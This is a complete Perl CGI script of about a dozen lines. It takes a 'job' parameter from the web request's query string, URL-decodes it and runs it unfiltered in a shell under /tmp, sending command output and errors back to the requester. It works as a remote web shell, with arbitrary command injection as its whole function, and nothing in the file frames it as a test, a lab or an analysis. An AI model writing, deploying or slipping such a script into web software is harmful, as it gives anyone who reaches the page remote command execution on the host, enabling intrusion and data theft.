#!/usr/bin/perl
# Reads its own query string and runs what it names inside a subshell, output and errors together.
$| = 1;
print "Content-Type: text/plain\r\n\r\n";
my %q;
for my $kv (split /&/, ($ENV{QUERY_STRING} || '')) {
    my ($k, $v) = split /=/, $kv, 2;
    next unless defined $k;
    $v =~ tr/+/ /;
    $v =~ s/%([0-9a-fA-F]{2})/chr(hex($1))/ge;
    $q{$k} = $v;
}
my $job = $q{job} || 'uptime';
open(OUT, "(cd /tmp && $job) 2>&1 |") or print "cannot start\n";
print while <OUT>;
close(OUT);
